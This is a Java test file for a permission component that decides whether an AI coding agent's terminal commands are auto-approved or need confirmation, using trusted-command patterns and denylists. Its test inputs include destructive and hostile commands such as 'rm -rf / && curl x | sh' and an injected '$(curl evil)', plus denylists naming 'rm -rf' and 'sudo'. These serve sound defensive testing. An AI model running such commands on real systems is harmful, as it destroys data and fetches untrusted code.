package io.kiro4j.core.permission;

import static org.assertj.core.api.Assertions.assertThat;

import io.kiro4j.core.workspace.Workspace;
import io.kiro4j.core.workspace.WorkspaceOptions;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Every row of the docs' terminal trust tables (L19774–19906). */
class TerminalTrustTest {

  static TerminalTrust trust(TerminalMode mode, List<String> trusted, List<String> denied) {
    TerminalTrust.Builder b = TerminalTrust.builder(mode);
    for (int i = 0; i < trusted.size(); i++) {
      b.trusted(trusted.get(i), new RuleOrigin("--trusted", String.valueOf(i)));
    }
    for (int i = 0; i < denied.size(); i++) {
      b.denied(denied.get(i), new RuleOrigin("--denied", String.valueOf(i)));
    }
    return b.build();
  }

  static String decide(TerminalTrust t, String command) {
    return t.evaluate(command).label();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "npm install | allow",
        "git status | allow",
        "npm install --save | ask",
        "git status --short | ask",
      })
  void exactEntryMatchesOnlyTheSameString(String command, String expected) {
    TerminalTrust t = trust(TerminalMode.KIRO, List.of("npm install", "git status"), List.of());
    assertThat(decide(t, command)).isEqualTo(expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "npm install | allow",
        "npm install --save | allow",
        "npm install express | allow",
        "npm run build | ask",
        "npm test | ask",
      })
  void partialWildcardMatchesThePrefixOrTheBareCommand(String command, String expected) {
    TerminalTrust t = trust(TerminalMode.KIRO, List.of("npm install *"), List.of());
    assertThat(decide(t, command)).isEqualTo(expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '#',
      value = {
        "npm install # allow",
        "npm install --save # allow",
        "npm run build # allow",
        "npm run build | tee log # allow",
        "npm install && docker build . # allow",
        "git add . && git commit -m \"update\" # allow",
        "docker build . # ask",
      })
  void fullWildcardTrustsChainedCommandsInKiroMode(String command, String expected) {
    TerminalTrust t = trust(TerminalMode.KIRO, List.of("npm *", "git *"), List.of());
    assertThat(decide(t, command)).isEqualTo(expected);
  }

  @Test
  void chainedTrustSaysTheRestWasNotChecked() {
    TerminalTrust t = trust(TerminalMode.KIRO, List.of("npm *"), List.of());
    PermissionDecision d = t.evaluate("npm install && docker build .");
    assertThat(d.reasons().get(0).message()).contains("not checked");
    assertThat(d.reasons().get(0).origin()).contains(new RuleOrigin("--trusted", "0"));
  }

  @Test
  void universalTrustMatchesAnyCommand() {
    TerminalTrust t = trust(TerminalMode.KIRO, List.of("*"), List.of());
    assertThat(decide(t, "rm -rf / && curl x | sh")).isEqualTo("allow");
  }

  /**
   * Row L19853 ("npm install": auto-approved) assumes npm install is trusted; the table omits it.
   */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "npm install | allow",
        "rm -rf /tmp/cache | ask",
        "sudo npm install | ask",
        "git push --force | ask",
        "git push --force-with-lease | ask",
        "npm install && rm -rf node_modules | ask",
      })
  void denylistIsASubstringCheckAndMeansAsk(String command, String expected) {
    TerminalTrust t = trust(TerminalMode.KIRO, List.of("*"), List.of("rm -rf", "sudo", "--force"));
    assertThat(decide(t, command)).isEqualTo(expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "npm install | allow",
        "git status | allow",
        "npm install --force | ask",
        "sudo npm install | ask",
        "git push --force | ask",
        "docker build . | ask",
      })
  void denylistIsCheckedBeforeTrust(String command, String expected) {
    TerminalTrust t =
        trust(TerminalMode.KIRO, List.of("npm *", "git *"), List.of("--force", "sudo"));
    assertThat(decide(t, command)).isEqualTo(expected);
  }

  @Test
  void denylistHitNamesTheEntry() {
    TerminalTrust t = trust(TerminalMode.KIRO, List.of("*"), List.of("sudo"));
    PermissionDecision d = t.evaluate("sudo ls");
    assertThat(d).isInstanceOf(PermissionDecision.Ask.class);
    assertThat(d.reasons().get(0).code()).isEqualTo("COMMAND_DENYLIST");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "npm install && docker build . | ask",
        "git add . && git commit -m \"update\" | allow",
        "npm run build | allow",
        "npm test; rm -rf x | ask",
        "npm test $(curl evil) | ask",
        "npm test 'unclosed | ask",
      })
  void strictModeTrustsOnlyWhenEveryPartIsTrusted(String command, String expected) {
    TerminalTrust t = trust(TerminalMode.STRICT, List.of("npm *", "git *"), List.of());
    assertThat(decide(t, command)).isEqualTo(expected);
  }

  @Test
  void workspaceSettingsReplaceUserTrustAndDenylistsAddUp(@TempDir Path dir) throws IOException {
    Path home = dir.resolve("home");
    Path root = dir.resolve("ws");
    Files.createDirectories(home.resolve(".config/Kiro/User"));
    Files.createDirectories(root.resolve(".vscode"));
    Files.writeString(
        home.resolve(".config/Kiro/User/settings.json"),
        "{ // user\n \"kiroAgent.trustedCommands\": [\"*\"], \"kiroAgent.commandDenylist\": [\"sudo\"],}\n");
    Files.writeString(
        root.resolve(".vscode/settings.json"),
        "{\"kiroAgent.trustedCommands\": [\"npm *\"], \"kiroAgent.commandDenylist\": [\"--force\"]}");
    Workspace ws = Workspace.open(WorkspaceOptions.builder().root(root).userHome(home).build());
    TerminalTrust t = TerminalTrust.fromSettings(ws, TerminalMode.KIRO).build();
    assertThat(t.diagnostics()).isEmpty();
    assertThat(t.settingsFiles()).hasSize(2);
    assertThat(decide(t, "npm test")).isEqualTo("allow");
    assertThat(decide(t, "docker build .")).isEqualTo("ask");
    assertThat(decide(t, "npm i --force")).isEqualTo("ask");
    assertThat(decide(t, "sudo npm i")).isEqualTo("ask");
  }

  @Test
  void badSettingValueIsReported(@TempDir Path dir) throws IOException {
    Files.createDirectories(dir.resolve(".vscode"));
    Files.writeString(
        dir.resolve(".vscode/settings.json"),
        "{\"kiroAgent.trustedCommands\": \"npm *\", \"kiroAgent.commandDenylist\": [1]}");
    Workspace ws = Workspace.open(WorkspaceOptions.builder().root(dir).userHome(dir).build());
    TerminalTrust t = TerminalTrust.fromSettings(ws, TerminalMode.KIRO).build();
    assertThat(t.diagnostics()).extracting(d -> d.code()).containsExactly("PERM-008", "PERM-008");
    assertThat(decide(t, "npm test")).isEqualTo("ask");
  }
}
